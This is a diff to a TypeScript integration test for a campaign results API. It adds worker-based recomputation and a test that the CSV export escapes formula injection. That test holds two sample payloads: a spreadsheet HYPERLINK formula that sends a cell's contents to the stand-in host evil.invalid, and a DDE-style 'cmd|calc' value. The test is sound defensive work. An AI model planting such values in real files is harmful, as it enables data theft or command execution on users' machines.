@@ -2,6 +2,8 @@ import request from 'supertest';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { getCampaignForResult, type CampaignForResult } from '../../server/campaigns/campaigns.service';
 import { ComparisonResultEntity } from '../../server/db/entities/results.entities';
+import { stopQueues } from '../../server/jobs/queue';
+import { startWorker, type Worker } from '../../server/jobs/worker';
 import { latestResultForCampaign } from '../../server/results/results.service';
 import { tidePotentialSeries } from '../../server/science/tides';
 import type { ComparisonResultDto } from '../../shared/results';
@@ -15,6 +17,7 @@ const ansel = 'ansel.brandt@geopotential-office.invalid';
 const petra = 'petra.lind@audit-bureau.invalid';
 
 let t: TestApp;
+let worker: Worker;
 let campaignId: string;
 let emptyCampaignId: string;
 let campaign: CampaignForResult;
@@ -48,8 +51,29 @@ function ratioText(y: number): string {
   return `${s.slice(0, 1)}.${s.slice(1)}`;
 }
 
+/** Waits (polling the GET, as the client does) until the worker stored a result other than `previousId`. */
+async function computedResult(id: string, previousId?: string) {
+  for (let i = 0; i < 400; i++) {
+    const res = await request(t.app).get(`/api/v1/campaigns/${id}/result`).set(auth(ansel));
+    if (res.status === 200 && res.body.id !== previousId) return res;
+    if (res.status !== 200) expect(res.body.code, JSON.stringify(res.body)).toBe('result-pending');
+    await new Promise((r) => setTimeout(r, 250));
+  }
+  throw new Error('no result from the worker');
+}
+
+/** Asks for a recomputation (a POST, 202) and waits for the worker's result. */
+async function recomputed(id: string, who = ansel) {
+  const before = await latestResultForCampaign(t.ds.manager, id);
+  const res = await request(t.app).post(`/api/v1/campaigns/${id}/result/recompute`).set(auth(who));
+  expect(res.status, JSON.stringify(res.body)).toBe(202);
+  expect(res.body).toMatchObject({ campaignId: id, state: 'queued', reason: 'recompute' });
+  return computedResult(id, before?.id);
+}
+
 beforeAll(async () => {
   t = await createTestApp();
+  worker = await startWorker({ dataSource: t.ds, databaseUrl: t.databaseUrl, pollingIntervalSeconds: 0.5 });
   for (const who of [ines, ansel, petra]) tokens[who] = await tokenFor(t, who);
   const rows: { id: string; name: string }[] = await t.ds.query("SELECT id, name FROM campaign WHERE state = 'draft' ORDER BY name");
   campaignId = rows.find((r) => r.name.startsWith('SCL–HMO'))!.id;
@@ -75,8 +99,16 @@ beforeAll(async () => {
     .field('epochColumn', '1').field('epochKind', 'mjd').field('valueColumn', '2').field('valueKind', 'ratio').field('flagColumn', '3').field('hasHeader', 'true')
     .attach('file', Buffer.from(lines.join('\n') + '\n'), 'generated-run.csv');
   expect(res.status, JSON.stringify(res.body)).toBe(201);
+  // Coordinator and auditor read the results of accepted campaigns (docs/decisions/0004-campaign-visibility.md);
+  // the empty one is under review, which the coordinator sees too.
+  await t.ds.query("UPDATE campaign SET state = 'accepted' WHERE id = $1", [campaignId]);
+  await t.ds.query("UPDATE campaign SET state = 'submitted' WHERE id = $1", [emptyCampaignId]);
 }, 60_000);
-afterAll(() => t.close());
+afterAll(async () => {
+  await worker.stop();
+  await stopQueues();
+  await t.close();
+});
 
 describe('campaign result', () => {
   let first: ComparisonResultDto;
@@ -89,9 +121,9 @@ describe('campaign result', () => {
   });
 
   it('recovers the injected offset within its statistical uncertainty and reports ΔC = c²·y', async () => {
-    const res = await request(t.app).get(`/api/v1/campaigns/${campaignId}/result`).set(auth(ansel));
-    expect(res.status, JSON.stringify(res.body).slice(0, 400)).toBe(200);
-    expect(res.body.fresh).toBe(true);
+    // The upload queued the computation; the worker stored it in the uploader's name.
+    const res = await computedResult(campaignId);
+    expect(res.body.computedBy).toBe('Ines Varga');
     first = res.body;
     const r = res.body.result;
     const fo = r.fractionalOffset;
@@ -171,9 +203,11 @@ describe('campaign result', () => {
       [campaign.clockB.id, JSON.stringify([{ effect: 'everything', correction: 0, uncertainty: bigger, type: 'B', note: '' }]), bigger],
     );
     await t.ds.query('UPDATE campaign SET budget_version_b_id = $1 WHERE id = $2', [version.id, campaignId]);
-    const res = await request(t.app).get(`/api/v1/campaigns/${campaignId}/result`).set(auth(ansel));
-    expect(res.status).toBe(200);
-    expect(res.body.fresh).toBe(true);
+    // Reading does not recompute: the stored result no longer matches the inputs, and the GET says so.
+    const stale = await request(t.app).get(`/api/v1/campaigns/${campaignId}/result`).set(auth(ansel));
+    expect(stale.status).toBe(404);
+    expect(stale.body).toMatchObject({ code: 'result-not-computed', latestComputedAt: first.computedAt });
+    const res = await recomputed(campaignId);
     expect(res.body.inputHash).not.toBe(first.inputHash);
     const uOld = first.result.budget.combinedStandardUncertainty;
     const uNew = res.body.result.budget.combinedStandardUncertainty;
@@ -186,9 +220,7 @@ describe('campaign result', () => {
   it('recomputes on request for coordinators, never for auditors', async () => {
     const denied = await request(t.app).post(`/api/v1/campaigns/${campaignId}/result/recompute`).set(auth(petra));
     expect(denied.status).toBe(403);
-    const res = await request(t.app).post(`/api/v1/campaigns/${campaignId}/result/recompute`).set(auth(ansel));
-    expect(res.status).toBe(201);
-    expect(res.body.fresh).toBe(true);
+    const res = await recomputed(campaignId);
     expect(await t.ds.getRepository(ComparisonResultEntity).countBy({ campaignId })).toBe(3);
     expect((await latestResultForCampaign(t.ds.manager, campaignId))?.id).toBe(res.body.id);
   });
@@ -207,10 +239,36 @@ describe('campaign result', () => {
     expect(res.text).toContain(json.body.inputHash);
   });
 
-  it('answers 409 for a campaign without data and 404 for an unknown one', async () => {
+  it('says "not computed" for a campaign without data (a recompute is refused with 409) and 404 for an unknown one', async () => {
     const empty = await request(t.app).get(`/api/v1/campaigns/${emptyCampaignId}/result`).set(auth(ansel));
-    expect(empty.status).toBe(409);
+    expect(empty.status).toBe(404);
+    expect(empty.body.code).toBe('result-not-computed');
+    const recompute = await request(t.app).post(`/api/v1/campaigns/${emptyCampaignId}/result/recompute`).set(auth(ansel));
+    expect(recompute.status).toBe(409);
     const missing = await request(t.app).get('/api/v1/campaigns/00000000-0000-4000-8000-000000000000/result').set(auth(ansel));
     expect(missing.status).toBe(404);
+  });
+});
+
+describe('CSV export of names a person typed', () => {
+  it('neutralises names that a spreadsheet would run as formulas (OWASP, "CSV Injection")', async () => {
+    const hostile = '=HYPERLINK("http://evil.invalid/?leak="&A1,"open")';
+    await t.ds.query('UPDATE campaign SET name = $1 WHERE id = $2', [hostile, campaignId]);
+    await t.ds.query("UPDATE ratio_series SET file_name = '@SUM(1+1)*cmd|calc' WHERE campaign_id = $1", [campaignId]);
+    await recomputed(campaignId);
+    const res = await request(t.app).get(`/api/v1/campaigns/${campaignId}/result.csv`).set(auth(ansel));
+    expect(res.status).toBe(200);
+    const cells = (prefix: string) => res.text.split('\n').find((l) => l.startsWith(prefix))!;
+    // The cell starts with a quote character inside the CSV quotes: a spreadsheet shows the text, it runs nothing.
+    expect(cells('meta,campaign,')).toContain(`"'=HYPERLINK(""http://evil.invalid/?leak=""&A1,""open"")"`);
+    expect(cells('input_file,')).toMatch(/^input_file,"'@SUM\(1\+1\)\*cmd\|calc",/);
+    // No cell anywhere begins with a formula character (negative numbers excepted).
+    for (const line of res.text.trim().split('\n')) {
+      for (const cell of line.match(/("([^"]|"")*"|[^,]*)/g)!.filter(Boolean)) {
+        if (/^-?\d/.test(cell)) continue;
+        expect(cell, line).not.toMatch(/^[=+\-@\t\r]/);
+        expect(cell, line).not.toMatch(/^"[=+\-@\t\r]/);
+      }
+    }
   });
 });
